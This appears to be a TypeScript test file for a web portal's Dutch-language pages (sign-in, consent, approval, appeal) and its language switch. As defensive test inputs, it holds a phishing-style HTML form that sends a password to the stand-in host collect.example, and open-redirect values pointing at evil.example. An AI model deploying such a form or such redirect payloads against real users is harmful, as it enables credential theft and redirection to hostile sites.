/** Tests of the language of pages and of its switch. */
import assert from 'node:assert/strict'
import { after, describe, test } from 'node:test'
import { signInDutch } from '../../../../test/fixtures/portal/language.ts'
import {
  createOwnedProject,
  createSignInPath,
  newVisitor,
  signIn,
} from '../../../../test/fixtures/portal/portal.ts'
import { propose } from '../../../../test/fixtures/mcp/approvals.ts'
import { openBrowser } from '../../../../test/fixtures/portal/browser.ts'
import { assertFit } from '../../../../test/fixtures/portal/fit.ts'
import {
  newRequest,
  openAuthorization,
  registerNewClient,
} from '../../../../test/fixtures/portal/oauth.ts'
import { saveScreenshot } from '../../../../test/fixtures/portal/portal-browser.ts'
import {
  filesFromTexts,
  newSiteOwner,
  newSlug,
} from '../../../../test/fixtures/sites/site-owner.ts'
import { openTestRuntime } from '../../../../test/fixtures/runtime.ts'

const fixture = await openTestRuntime({ work: false })
const browser = await openBrowser()
const dutch = { 'accept-language': 'nl-NL,nl;q=0.9,en;q=0.5' }
let people = 0

async function newOwner() {
  const email = `language-${(people += 1)}@bakery.example`
  return { email, project_id: await createOwnedProject(fixture, email) }
}

function assertDutch(text: string, ...words: string[]): void {
  assert.match(text, /<html lang="nl">/)
  for (const one of words) assert.ok(text.replaceAll(/\s+/g, ' ').includes(one), one)
  assert.doesNotMatch(text, /Sign in|Continue|Email address|Back to your|Skip to/)
}

describe('a page in Dutch', () => {
  test('is each page of the sign-in, with its faults', async () => {
    const { email } = await newOwner()
    const visitor = newVisitor(fixture)
    assertDutch((await visitor.get('/portal/sign-in', dutch)).text, 'Aanmelden', 'E-mailadres')
    const wrong = await visitor.post('/portal/sign-in', { email: 'no' }, dutch)
    assertDutch(wrong.text, 'Dit is geen e-mailadres.')
    await visitor.post('/portal/sign-in', { email }, dutch)
    assertDutch((await visitor.get('/portal/sign-in/proof', dutch)).text, 'Wachtwoord')
    const fault = await visitor.post('/portal/sign-in/password', { password: 'no' }, dutch)
    assertDutch(fault.text, 'Het wachtwoord klopt niet', 'value="/portal/sign-in/proof"')
    assertDutch(
      (await visitor.get('/portal/sign-in/link/unknown', dutch)).text,
      'Deze link werkt niet meer',
    )
  })

  test('is the error page, with the message that it can show', async () => {
    const visitor = newVisitor(fixture)
    const { status, text } = await visitor.get('/portal/unknown', dutch)
    assert.equal(status, 404)
    assertDutch(text, 'Pagina niet gevonden', 'Deze pagina bestaat niet in het portaal.')
    const foreign = { ...dutch, 'sec-fetch-site': 'cross-site' }
    const refused = await visitor.post('/portal/sign-in', {}, foreign)
    assertDutch(refused.text, 'Geen toegang', 'vanaf een andere site verstuurd')
  })

  test('is shown to a person whose language is Dutch, whatever the browser prefers', async () => {
    const { email } = await newOwner()
    const visitor = await signInDutch(fixture, email)
    fixture.passes('20 minutes')
    const { text } = await visitor.get('/portal/confirm', { 'accept-language': 'en' })
    assertDutch(text, 'Bevestig uw identiteit', `Doorgaan als ${email}`, 'Afmelden')
  })
})

describe('a page about a decision, in Dutch', () => {
  after(() => browser.close())

  async function fitsPhone(
    { email, path, button }: { email: string; path: string; button: string },
    name: string,
  ): Promise<void> {
    const context = await browser.newContext({
      viewport: { width: 390, height: 844 },
      extraHTTPHeaders: dutch,
    })
    const page = await context.newPage()
    await page.goto(fixture.url + (await createSignInPath(fixture, email)))
    await page.goto(fixture.url + path)
    await page.getByRole('button', { name: button }).waitFor()
    await saveScreenshot(page, name)
    await assertFit(page, 390)
    await context.close()
  }

  test('is the consent page, with the names of the permissions and a fault', async () => {
    const { email } = await newOwner()
    const visitor = await signInDutch(fixture, email)
    const { query } = newRequest(await registerNewClient(fixture))
    const { to } = await openAuthorization(visitor, { ...query, scope: 'sites:read sites:write' })
    const path = to ?? ''
    const { text } = await visitor.get(path)
    assertDutch(
      text,
      'vraagt toegang tot een van uw projecten',
      'Het is niet gecontroleerd dat dit echt',
      '<b>Sites en bestanden</b>: sites, hun versies en media',
      'vraagt ook om iets te mogen wijzigen: Sites en bestanden (sites en media publiceren',
      'Toestaan',
      `name="here" value="${path}"`,
    )
    assert.doesNotMatch(text, /checked below|Allow|Cancel|Choose|requested/)
    const fault = await visitor.post(path, { decision: 'allow' })
    assertDutch(fault.text, 'Kies een project waarvan u in het team zit.')
    const start = `/oauth/authorize?${new URLSearchParams(query)}`
    await fitsPhone({ email, path: start, button: 'Toestaan' }, 'consent-nl-390')
  })

  test('is the approval page, before and after the decision', async () => {
    const { email, project_id } = await newOwner()
    const key = await fixture.newKey({ project_id })
    await fixture.call('POST /collections', { key, body: { name: 'orders' } })
    await fixture.call('POST /collections/orders/documents', { key, body: { guest: 'Ada' } })
    const given = { name: 'orders', confirm: 'orders' }
    const id = await propose(fixture, 'collections.delete', given, key)
    const path = `/portal/projects/${project_id}/approvals/${id}`
    const visitor = await signInDutch(fixture, email)
    const { text } = await visitor.get(path)
    assertDutch(
      text,
      '>Verwijdert een collectie met alle documenten</h1>',
      'verwijdert gegevens',
      ' uur, <time',
      '<span lang="en">It deletes ',
      'Goedkeuren',
    )
    assert.doesNotMatch(text, /Approve|Reject|Requested|Arguments|Technical/)
    await fitsPhone({ email, path, button: 'Goedkeuren' }, 'approval-nl-390')
    const input_hash = /name="input_hash" value="([0-9a-f]{64})"/.exec(text)?.[1] ?? ''
    const edit = { input_hash, arguments: '{}' }
    const wrong = await visitor.post(`${path}/edit`, edit)
    assertDutch(wrong.text, 'De waarden kloppen niet:', `name="here" value="${path}"`)
    await visitor.post(`${path}/reject`, { input_hash })
    assertDutch((await visitor.get(path)).text, 'Afgewezen. Er is niets gedaan.', `door ${email}`)
    const late = await visitor.post(`${path}/approve`, { input_hash })
    assertDutch(late.text, `${email} heeft dit al afgewezen.`)
  })

  test('is the appeal page, whose findings are marked as English', async () => {
    const owner = await newSiteOwner(fixture)
    const slug = newSlug()
    const stealing =
      '<!doctype html><title>Bread</title><form action="https://collect.example"><input type="password"></form>'
    const refused = { slug, files: filesFromTexts({ 'index.html': stealing }) }
    const { appeal_url } = (await owner.call('POST /sites', refused)).body
    const path = new URL(appeal_url).pathname
    const visitor = newVisitor(fixture)
    assertDutch(
      (await visitor.get(path, dutch)).text,
      `${slug} is niet gepubliceerd`,
      'vond één probleem',
      'regel 1',
      '<div lang="en"> <p><b>This form sends a password',
    )
    const wrong = await visitor.post(path, { message: ' ', email: 'no' }, dutch)
    assertDutch(wrong.text, 'Leg uit waarom het besluit niet klopt.', 'Dit is geen e-mailadres.')
    await visitor.post(path, { message: 'Het klopt niet.' }, dutch)
    assertDutch((await visitor.get(path, dutch)).text, 'U hebt bezwaar gemaakt op')
  })
})

describe('the switch of the language', () => {
  test('returns to the page and keeps the language for this browser', async () => {
    const visitor = newVisitor(fixture)
    const page = await visitor.get('/portal/sign-in?next=/portal/connect/1')
    assert.match(page.text, /name="here" value="\/portal\/sign-in\?next=\/portal\/connect\/1"/)
    const here = '/portal/sign-in?next=/portal/connect/1'
    const switched = await visitor.post('/portal/language', { language: 'nl', here })
    assert.equal(switched.to, here)
    assertDutch((await visitor.get(here, { 'accept-language': 'en' })).text, 'Aanmelden')
  })

  test('stores the language of a signed-in person', async () => {
    const { email } = await newOwner()
    const visitor = await signIn(fixture, email)
    await visitor.post('/portal/language', { language: 'nl', here: '/portal/confirm' })
    const row = await fixture.runtime.db
      .selectFrom('people')
      .select('language')
      .where('email', '=', email)
      .executeTakeFirst()
    assert.equal(row?.language, 'nl')
  })

  test('does not use up a sign-in link', async () => {
    const { email } = await newOwner()
    const path = await createSignInPath(fixture, email)
    const visitor = newVisitor(fixture)
    const page = await visitor.get(path, { accept: 'text/html' })
    const here = /name="here" value="([^"]*)"/.exec(page.text)?.[1] ?? ''
    const { to } = await visitor.post('/portal/language', { language: 'nl', here })
    const again = await visitor.get(to ?? '', { 'sec-fetch-site': 'same-origin' })
    assertDutch(again.text, `Aanmelden als ${email}?`)
  })

  test('leads to no other site', async () => {
    const visitor = newVisitor(fixture)
    for (const here of ['https://evil.example/', '//evil.example/', '/\\evil.example', 'x', '']) {
      const { to } = await visitor.post('/portal/language', { language: 'nl', here })
      assert.equal(to, '/portal', here)
    }
  })
})
